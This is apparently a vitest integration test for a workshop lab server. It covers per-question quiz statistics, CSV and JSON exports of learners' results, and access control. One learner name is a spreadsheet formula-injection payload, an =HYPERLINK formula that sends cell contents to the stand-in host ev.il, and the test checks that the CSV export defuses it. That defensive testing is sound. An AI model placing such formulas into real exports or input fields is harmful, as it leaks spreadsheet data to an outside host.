/**
 * Results through the real server: learners of a workshop pass steps and
 * answer the hello lab's real quiz in their real sandboxes; the instructor's
 * statistics, CSV and JSON say what they did — the room's common mistakes,
 * first attempts only, and names that are formulas defused in the CSV.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { WorkshopExport, WorkshopResults } from '../../common/src/results-api.js';
import { EXPORT_CSV_HEADER } from '../../server/src/results/room-results.js';
import { startServer, type RunningServer } from '../support/server.js';
import { TerminalClient } from '../support/terminal-client.js';
import { call, createWorkshop, join, startLab, TEST_INSTRUCTOR_KEY } from '../support/workshop-client.js';
import { parseCsv } from '../../server/src/results/csv-reader-fixture.js';

const key = TEST_INSTRUCTOR_KEY;
let server: RunningServer;

beforeAll(async () => {
  server = await startServer({ env: { SYSLAB_INSTRUCTOR_KEY: key } });
});
afterAll(async () => {
  await server?.stop();
});

const HYPERLINK = '=HYPERLINK("http://ev.il/?"&A1,"x")';

describe('a workshop\'s results', () => {
  let workshopId: string;
  const learners: Record<string, { learner: string; participant: string; session: { id: string; token: string } }> = {};
  const bearer = (name: string) => ({ headers: { authorization: `Bearer ${learners[name]!.session.token}` } });
  const submit = (name: string, answers: Record<string, unknown>) =>
    call<{ score: number }>(server, 'POST', `/api/sessions/${learners[name]!.session.id}/quiz`, bearer(name), { answers });

  beforeAll(async () => {
    const w = await createWorkshop(server, ['hello', 'signals']);
    workshopId = w.id;
    for (const name of ['Ana', HYPERLINK, '+Bob', 'Dee, "the quiet one"']) {
      const joined = await join(server, w.code, name);
      learners[name] = { learner: joined.learner, participant: joined.participant.id, session: await startLab(server, joined.learner) };
    }
  });
  afterAll(async () => {
    for (const l of Object.values(learners)) await call(server, 'DELETE', `/api/sessions/${l.session.id}`, { headers: { authorization: `Bearer ${l.session.token}` } });
  });

  it('counts real quiz answers per question over first attempts, and names the room\'s most common wrong answer', async () => {
    // Ana does the first step for real, then answers everything right (the live question from her own shell).
    const terminal = await TerminalClient.connect(server.url, learners.Ana!.session.id, { token: learners.Ana!.session.token });
    await terminal.run("echo 'hello, shell' > ~/hello.txt");
    expect((await call(server, 'POST', `/api/sessions/${learners.Ana!.session.id}/steps/1/check`, bearer('Ana'), { manual: true })).body).toMatchObject({ passed: true });
    const pid = (await terminal.run('echo pid=$$')).match(/pid=(\d+)/)![1]!;
    terminal.close();
    expect((await submit('Ana', { ampersand: 1, 'see-the-sleep': [0, 1], 'sleep-seconds': 120, 'print-a-file': 'cat hello.txt', 'shell-pid': Number(pid) })).body.score).toBe(5);
    expect((await submit(HYPERLINK, { ampersand: 0, 'see-the-sleep': [1, 0], 'sleep-seconds': 2, 'print-a-file': 'Print' })).body.score).toBe(1);
    expect((await submit('+Bob', { ampersand: 0, 'sleep-seconds': 2, 'print-a-file': ' print ' })).body.score).toBe(0);
    // Bob tries again and gets everything but the live one right: his best changes, the room's first-attempt statistics do not.
    expect((await submit('+Bob', { ampersand: 1, 'see-the-sleep': [0, 1], 'sleep-seconds': 120, 'print-a-file': 'cat' })).body.score).toBe(4);

    const res = await call<WorkshopResults>(server, 'GET', `/api/workshops/${workshopId}/results`, { key });
    expect(res.status).toBe(200);
    const results = res.body;
    expect(results).toMatchObject({ participants: 4, basis: 'first-attempt', workshop: { id: workshopId, title: 'Test room' } });
    const hello = results.labs.find((l) => l.lab === 'hello')!;
    expect(hello).toMatchObject({ participants: 4, submitted: 3, max: 5, meanScore: 2 });
    const q = Object.fromEntries(hello.questions.map((x) => [x.id, x]));
    expect(q.ampersand).toMatchObject({ submitted: 3, answered: 3, right: 1, missedByRoom: true, commonWrong: { answer: 'It runs the command twice', count: 2 } });
    expect(q['see-the-sleep']).toMatchObject({ submitted: 3, answered: 2, right: 2, missedByRoom: false, commonWrong: null });
    expect(q['sleep-seconds']).toMatchObject({ right: 1, missedByRoom: true, commonWrong: { answer: '2', count: 2 } });
    expect(q['print-a-file']).toMatchObject({ right: 1, commonWrong: { answer: 'print', count: 2 } });
    expect(q['shell-pid']).toMatchObject({ submitted: 3, answered: 1, right: 1, missedByRoom: true });
    expect(results.labs.map((l) => l.lab)).toEqual(['hello', 'signals']);
    expect(results.labs[1]).toMatchObject({ submitted: 0, meanScore: null });
  });

  it('exports everyone\'s progress and scores as RFC 4180 CSV with formula-like names defused', async () => {
    const res = await fetch(`${server.url}/api/workshops/${workshopId}/export.csv`, { headers: { authorization: `Bearer ${key}` } });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8; header=present');
    expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename="syslab-test-room-\d{4}-\d\d-\d\d\.csv"$/);
    const bytes = Buffer.from(await res.arrayBuffer());
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = bytes.subarray(3).toString('utf8');
    expect(text.endsWith('\r\n')).toBe(true);
    const rows = parseCsv(text);
    expect(rows[0]).toEqual([...EXPORT_CSV_HEADER]);
    expect(rows).toHaveLength(1 + 4 * 2);
    const col = (name: string) => EXPORT_CSV_HEADER.indexOf(name as (typeof EXPORT_CSV_HEADER)[number]);
    const byName = (name: string, lab: string) => rows.find((r) => r[col('participant')] === name && r[col('lab')] === lab)!;
    expect(byName('Ana', 'hello')[col('steps_passed')]).toBe('1');
    expect(byName('Ana', 'hello')[col('steps_total')]).toBe('3');
    expect(byName('Ana', 'hello')[col('quiz_best_score')]).toBe('5');
    expect(byName(`'${HYPERLINK}`, 'hello')[col('quiz_first_score')]).toBe('1');
    const bob = byName("'+Bob", 'hello');
    expect([bob[col('quiz_attempts')], bob[col('quiz_first_score')], bob[col('quiz_best_score')], bob[col('quiz_max')]]).toEqual(['2', '0', '4', '5']);
    expect(byName('Dee, "the quiet one"', 'signals')[col('quiz_attempts')]).toBe('0');
    // No cell a spreadsheet would run.
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^\s*[=+\-@]/);
  });

  it('exports the same as JSON, with every attempt and answer', async () => {
    const res = await call<WorkshopExport>(server, 'GET', `/api/workshops/${workshopId}/export.json`, { key });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-disposition')).toMatch(/\.json"$/);
    const data = res.body;
    expect(data.participants.map((p) => p.name)).toEqual(['Ana', HYPERLINK, '+Bob', 'Dee, "the quiet one"']);
    const bob = data.participants[2]!.labs[0]!;
    expect(bob.quiz).toMatchObject({ max: 5, firstScore: 0, bestScore: 4 });
    expect(bob.quiz.attempts[0]!.answers.find((a) => a.question === 'print-a-file')).toEqual({ question: 'print-a-file', correct: false, given: ' print ' });
    expect(bob.quiz.attempts[0]!.answers.find((a) => a.question === 'see-the-sleep')).toEqual({ question: 'see-the-sleep', correct: false, given: null });
    expect(data.participants[0]!.labs[0]!.stepsPassed).toEqual([{ step: expect.stringMatching(/^01-/), passedAt: expect.any(String) }]);
  });

  it('refuses results to learners (403) and strangers (401)', async () => {
    for (const path of ['results', 'export.csv', 'export.json']) {
      expect((await call(server, 'GET', `/api/workshops/${workshopId}/${path}`, { learner: learners.Ana!.learner })).status).toBe(403);
      expect((await call(server, 'GET', `/api/workshops/${workshopId}/${path}`, {})).status).toBe(401);
      expect((await call(server, 'GET', `/api/workshops/wnotaworkshopatall/${path}`, { key })).status).toBe(404);
    }
  });
});
